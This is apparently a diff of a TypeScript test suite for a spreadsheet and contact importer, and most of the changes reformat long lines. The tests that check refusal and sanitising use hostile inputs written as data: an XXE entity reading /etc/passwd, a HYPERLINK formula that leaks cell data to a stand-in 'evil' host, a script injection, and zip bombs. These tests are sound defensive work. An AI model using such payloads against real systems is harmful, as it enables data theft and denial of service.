@@ -13,7 +13,8 @@ const ROWS = [
   ['Щукин Пётр Ильич', 'ООО «Вектор»', '+7 916 123-45-67', 'p@x.ru', '01.02.1980', 'первый'],
   ['Жданова Алёна', 'АО Луч', '8 903 123-45-67', 'a@x.ru', '29.02.1984', 'вторая'],
 ];
-const bytesOf = (book: oracle.WorkBook, type: oracle.BookType): Uint8Array => new Uint8Array(oracle.write(book, { type: 'buffer', bookType: type }) as Buffer);
+const bytesOf = (book: oracle.WorkBook, type: oracle.BookType): Uint8Array =>
+  new Uint8Array(oracle.write(book, { type: 'buffer', bookType: type }) as Buffer);
 const bookOf = (rows: readonly (readonly unknown[])[], sheet = 'Лист1'): oracle.WorkBook => {
   const book = oracle.utils.book_new();
   oracle.utils.book_append_sheet(book, oracle.utils.aoa_to_sheet(rows as unknown[][]), sheet);
@@ -41,9 +42,18 @@ describe('workbooks', () => {
     ['XLSX of hucre', 'xlsx', () => writeXlsx({ sheets: [{ name: 'Лист1', rows: [HEADER, ...ROWS] }] })],
     ['ODS of hucre', 'ods', () => writeOds({ sheets: [{ name: 'Лист1', rows: [HEADER, ...ROWS] }] })],
   ])('%s comes in whole', async (_, kind, make) => {
-    const { reading, rows, vault } = await importInto(new MemoryVault(), new Uint8Array(await make()), { name: 'book' });
+    const { reading, rows, vault } = await importInto(new MemoryVault(), new Uint8Array(await make()), {
+      name: 'book',
+    });
     expect(reading).toMatchObject({ kind, sheet: 'Лист1', headerRow: 1, encodingSure: true });
-    expect(reading.columns.map((column) => column.field)).toEqual(['name.full', 'org.name', 'phone', 'email', 'birthday', 'notes']);
+    expect(reading.columns.map((column) => column.field)).toEqual([
+      'name.full',
+      'org.name',
+      'phone',
+      'email',
+      'birthday',
+      'notes',
+    ]);
     expect(rows).toMatchObject({ read: 2, created: 2 });
     expect(vault.people.map((person) => person['birthday'])).toEqual(['1980-02-01', '1984-02-29']);
   });
@@ -53,7 +63,10 @@ describe('workbooks', () => {
     [false, 1, '1900-01-01'],
     [false, 61, '1900-03-01'],
   ])('reads day numbers with 1904 %s: %i is %s', async (date1904, serial, expected) => {
-    const book = bookOf([['ФИО', 'Дата рождения'], ['Щукин Пётр', '']]);
+    const book = bookOf([
+      ['ФИО', 'Дата рождения'],
+      ['Щукин Пётр', ''],
+    ]);
     book.Workbook = { WBProps: { date1904 } };
     setCell(book, 'B2', { t: 'n', v: serial, z: 'dd.mm.yyyy' });
     for (const type of ['xlsx', 'biff8'] as const) {
@@ -62,14 +75,20 @@ describe('workbooks', () => {
     }
   });
   it('asks about the 29th of February 1900', async () => {
-    const book = bookOf([['ФИО', 'Дата рождения'], ['Щукин Пётр', '']]);
+    const book = bookOf([
+      ['ФИО', 'Дата рождения'],
+      ['Щукин Пётр', ''],
+    ]);
     setCell(book, 'B2', { t: 'n', v: 60, z: 'dd.mm.yyyy' });
     const { plan, vault } = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b' });
     expect(codes(plan)).toContain('2:dateSerial60');
     expect(vault.people[0]).not.toHaveProperty('birthday');
   });
   it('takes telephones and codes from the raw number, not from its picture', async () => {
-    const book = bookOf([['ФИО', 'Организация', 'Телефон', 'ИНН'], ['Щукин Пётр', 'ООО Вектор', 0, 0]]);
+    const book = bookOf([
+      ['ФИО', 'Организация', 'Телефон', 'ИНН'],
+      ['Щукин Пётр', 'ООО Вектор', 0, 0],
+    ]);
     setCell(book, 'C2', { t: 'n', v: 79161234567, z: '0.00E+00' });
     setCell(book, 'D2', { t: 'n', v: 7707083893 });
     const { vault } = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b' });
@@ -83,26 +102,51 @@ describe('workbooks', () => {
     (book.Sheets['Видимый'] as oracle.WorkSheet)['!rows'] = [{}, { hidden: true }];
     const { reading, vault } = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b' });
     expect(reading.sheet).toBe('Видимый');
-    expect(reading.sheets).toEqual([{ name: 'Видимый', rows: 3, hidden: false }, { name: 'Скрытый', rows: 2, hidden: true }]);
+    expect(reading.sheets).toEqual([
+      { name: 'Видимый', rows: 3, hidden: false },
+      { name: 'Скрытый', rows: 2, hidden: true },
+    ]);
     expect(reading.problems.map((problem) => problem.code)).toEqual(['hiddenSheets', 'hiddenRows']);
     expect(vault.people).toHaveLength(2);
     const chosen = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b', sheet: 'Скрытый' });
     expect(chosen.vault.people).toHaveLength(1);
-    await expect(importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b', sheet: 'Нет' })).rejects.toMatchObject({ error: { code: 'import.noSuchSheet', params: { sheets: 'Видимый, Скрытый' } } });
+    await expect(
+      importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b', sheet: 'Нет' }),
+    ).rejects.toMatchObject({ error: { code: 'import.noSuchSheet', params: { sheets: 'Видимый, Скрытый' } } });
   });
   it('joins merged headers and keeps links, remarks and errors of cells', async () => {
-    const book = bookOf([['ФИО', 'Адрес', '', 'Связь', 'Сумма'], ['', 'Город', 'Улица', '', ''], ['Щукин Пётр', 'Уфа', 'Мира 1', 'написать', '']]);
+    const book = bookOf([
+      ['ФИО', 'Адрес', '', 'Связь', 'Сумма'],
+      ['', 'Город', 'Улица', '', ''],
+      ['Щукин Пётр', 'Уфа', 'Мира 1', 'написать', ''],
+    ]);
     const sheet = book.Sheets['Лист1'] as oracle.WorkSheet;
-    sheet['!merges'] = [{ s: { r: 0, c: 1 }, e: { r: 0, c: 2 } }, { s: { r: 0, c: 0 }, e: { r: 1, c: 0 } }];
+    sheet['!merges'] = [
+      { s: { r: 0, c: 1 }, e: { r: 0, c: 2 } },
+      { s: { r: 0, c: 0 }, e: { r: 1, c: 0 } },
+    ];
     setCell(book, 'D3', { t: 's', v: 'написать', l: { Target: 'mailto:p@x.ru' }, c: [{ a: 'я', t: 'звонить утром' }] });
     setCell(book, 'E3', { t: 'e', v: 0x2a });
     const { reading, vault, plan } = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b' });
-    expect(reading.columns.map((column) => column.header)).toEqual(['ФИО', 'Адрес / Город', 'Адрес / Улица', 'Связь', 'Сумма']);
-    expect(vault.people[0]).toMatchObject({ emails: { 'p@x.ru': { value: 'p@x.ru' } }, summary: 'звонить утром\n\nнаписать' });
+    expect(reading.columns.map((column) => column.header)).toEqual([
+      'ФИО',
+      'Адрес / Город',
+      'Адрес / Улица',
+      'Связь',
+      'Сумма',
+    ]);
+    expect(vault.people[0]).toMatchObject({
+      emails: { 'p@x.ru': { value: 'p@x.ru' } },
+      summary: 'звонить утром\n\nнаписать',
+    });
     expect(codes(plan)).toContain('3:errorCell');
   });
   it('reads formulas only by their last value', async () => {
-    const book = bookOf([['ФИО', 'Комментарий'], ['Щукин Пётр', ''], ['Жданова Алёна', '']]);
+    const book = bookOf([
+      ['ФИО', 'Комментарий'],
+      ['Щукин Пётр', ''],
+      ['Жданова Алёна', ''],
+    ]);
     setCell(book, 'B2', { t: 's', v: 'итог', f: '"и"&"тог"' });
     setCell(book, 'B3', { t: 'n', f: 'HYPERLINK("http://evil/?"&A1)' });
     const { vault } = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b' });
@@ -112,14 +156,18 @@ describe('workbooks', () => {
 
 describe('tables in other clothes', () => {
   it('reads HTML that is called .xls, with spans, entities and its own encoding', async () => {
-    const html = '<html><head><meta charset="windows-1251"></head><body><script>alert(1)</script><table><tr><th rowspan="2">ФИО</th><th colspan="2">Телефон</th></tr><tr><th>Рабочий</th><th>Мобильный</th></tr><tr><td>Щукин&nbsp;Пётр</td><td>84951234567</td><td><a href="tel:1">89161234567</a></td></tr></table></body></html>';
-    const { reading, vault } = await importInto(new MemoryVault(), encode(html, 'windows-1251'), { name: 'report.xls' });
+    const html =
+      '<html><head><meta charset="windows-1251"></head><body><script>alert(1)</script><table><tr><th rowspan="2">ФИО</th><th colspan="2">Телефон</th></tr><tr><th>Рабочий</th><th>Мобильный</th></tr><tr><td>Щукин&nbsp;Пётр</td><td>84951234567</td><td><a href="tel:1">89161234567</a></td></tr></table></body></html>';
+    const { reading, vault } = await importInto(new MemoryVault(), encode(html, 'windows-1251'), {
+      name: 'report.xls',
+    });
     expect(reading).toMatchObject({ kind: 'html', encoding: 'windows-1251', headerRow: 2 });
     expect(reading.columns.map((column) => column.field)).toEqual(['name.full', 'phone.work', 'phone.mobile']);
     expect(vault.people[0]).toMatchObject({ name: { family: 'Щукин', given: 'Пётр' } });
   });
   it('reads SpreadsheetML of 2003', async () => {
-    const xml = '<?xml version="1.0" encoding="UTF-8"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Люди"><Table><Row><Cell><Data ss:Type="String">ФИО</Data></Cell><Cell ss:Index="3"><Data ss:Type="String">ДР</Data></Cell></Row><Row><Cell><Data ss:Type="String">Щукин Пётр</Data></Cell><Cell ss:Index="3"><Data ss:Type="DateTime">1980-02-01T00:00:00.000</Data></Cell></Row></Table></Worksheet></Workbook>';
+    const xml =
+      '<?xml version="1.0" encoding="UTF-8"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Люди"><Table><Row><Cell><Data ss:Type="String">ФИО</Data></Cell><Cell ss:Index="3"><Data ss:Type="String">ДР</Data></Cell></Row><Row><Cell><Data ss:Type="String">Щукин Пётр</Data></Cell><Cell ss:Index="3"><Data ss:Type="DateTime">1980-02-01T00:00:00.000</Data></Cell></Row></Table></Worksheet></Workbook>';
     const { reading, vault } = await importInto(new MemoryVault(), xml, { name: 'old.xml' });
     expect(reading.sheet).toBe('Люди');
     expect(vault.people[0]).toMatchObject({ birthday: '1980-02-01' });
@@ -139,24 +187,61 @@ describe('files that are refused', () => {
     ['words called a workbook', encode('this is not a spreadsheet', 'utf-8'), 'import.notASpreadsheet'],
     ['noise', Uint8Array.from({ length: 500 }, (_, i) => (i * 37) % 251), 'import.notASpreadsheet'],
     ['contact cards', encode('BEGIN:VCARD\nVERSION:3.0\nFN:Иван\nEND:VCARD\n', 'utf-8'), 'import.vcard'],
-    ['a zip of something else', makeZip([{ name: 'word/document.xml', content: '<w/>' }, { name: '[Content_Types].xml', content: '<Types/>' }]), 'import.notASpreadsheet'],
+    [
+      'a zip of something else',
+      makeZip([
+        { name: 'word/document.xml', content: '<w/>' },
+        { name: '[Content_Types].xml', content: '<Types/>' },
+      ]),
+      'import.notASpreadsheet',
+    ],
     ['a Numbers document', makeZip([{ name: 'Index/Document.iwa', content: 'x' }]), 'import.numbers'],
     ['a locked zip', makeZip([{ name: 'xl/workbook.xml', content: '<x/>' }], { flags: 1 }), 'import.encrypted'],
-    ['a document type inside', makeWorkbook('<sheetData/>', { prolog: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' }), 'import.forbiddenXml'],
+    [
+      'a document type inside',
+      makeWorkbook('<sheetData/>', {
+        prolog: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
+      }),
+      'import.forbiddenXml',
+    ],
     ['claims of 4 GB', makeZip([{ name: 'xl/workbook.xml', content: 'x', claims: 4_000_000_000 }]), 'import.zipBomb'],
-    ['6,000 entries', makeZip(Array.from({ length: 6000 }, (_, i) => ({ name: `xl/${i}.xml`, content: '' }))), 'import.zipBomb'],
-    ['overlapping entries', makeZip([{ name: 'xl/a.xml', content: '<a/>'.repeat(100) }, { name: 'xl/b.xml', content: '<a/>'.repeat(100) }], { overlap: true }), 'import.zipBomb'],
+    [
+      '6,000 entries',
+      makeZip(Array.from({ length: 6000 }, (_, i) => ({ name: `xl/${i}.xml`, content: '' }))),
+      'import.zipBomb',
+    ],
+    [
+      'overlapping entries',
+      makeZip(
+        [
+          { name: 'xl/a.xml', content: '<a/>'.repeat(100) },
+          { name: 'xl/b.xml', content: '<a/>'.repeat(100) },
+        ],
+        { overlap: true },
+      ),
+      'import.zipBomb',
+    ],
   ])('%s', async (_, bytes, code) => {
     expect(await refusal(bytes)).toBe(code);
   });
   it('a bomb that lies about its size, by what it really expands to', async () => {
-    const bomb = makeZip([{ name: '[Content_Types].xml', content: '<Types/>' }, { name: 'xl/worksheets/sheet1.xml', content: new Uint8Array(210_000_000), claims: 1000 }]);
+    const bomb = makeZip([
+      { name: '[Content_Types].xml', content: '<Types/>' },
+      { name: 'xl/worksheets/sheet1.xml', content: new Uint8Array(210_000_000), claims: 1000 },
+    ]);
     expect(bomb.length).toBeLessThan(1_000_000);
     expect(await refusal(bomb)).toBe('import.zipBomb');
   });
   it('a bomb that says what it is, before anything is inflated', async () => {
     const started = performance.now();
-    expect(await refusal(makeZip([{ name: 'xl/workbook.xml', content: '<x/>' }, { name: 'xl/worksheets/sheet1.xml', content: new Uint8Array(30_000_000) }]))).toBe('import.zipBomb');
+    expect(
+      await refusal(
+        makeZip([
+          { name: 'xl/workbook.xml', content: '<x/>' },
+          { name: 'xl/worksheets/sheet1.xml', content: new Uint8Array(30_000_000) },
+        ]),
+      ),
+    ).toBe('import.zipBomb');
     expect(performance.now() - started).toBeLessThan(5000);
   });
   it('16,384 columns', async () => {
@@ -165,7 +250,12 @@ describe('files that are refused', () => {
     expect(await refusal(encode(`${wide.join(';')}\n`, 'utf-8'), 'x.csv')).toBe('import.tooManyColumns');
   });
   it('but not a stray cell in the last column of the last row', async () => {
-    const book = await openSpreadsheet(makeWorkbook('<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ФИО</t></is></c><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Щукин Пётр</t></is></c></row></sheetData>'), 'x.xlsx');
+    const book = await openSpreadsheet(
+      makeWorkbook(
+        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ФИО</t></is></c><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Щукин Пётр</t></is></c></row></sheetData>',
+      ),
+      'x.xlsx',
+    );
     expect(book.tables[0]?.rows[1]?.map(cellText)).toEqual(['Щукин Пётр']);
   });
   it('a workbook cut in half', async () => {
@@ -181,7 +271,10 @@ describe('files that are refused', () => {
     }
   });
   it('a password-protected workbook', async () => {
-    const locked = await writeXlsx({ sheets: [{ name: 'A', rows: [HEADER] }], encryption: { password: 'secret', spinCount: 1000 } });
+    const locked = await writeXlsx({
+      sheets: [{ name: 'A', rows: [HEADER] }],
+      encryption: { password: 'secret', spinCount: 1000 },
+    });
     expect(await refusal(new Uint8Array(locked))).toBe('import.encrypted');
   });
 });
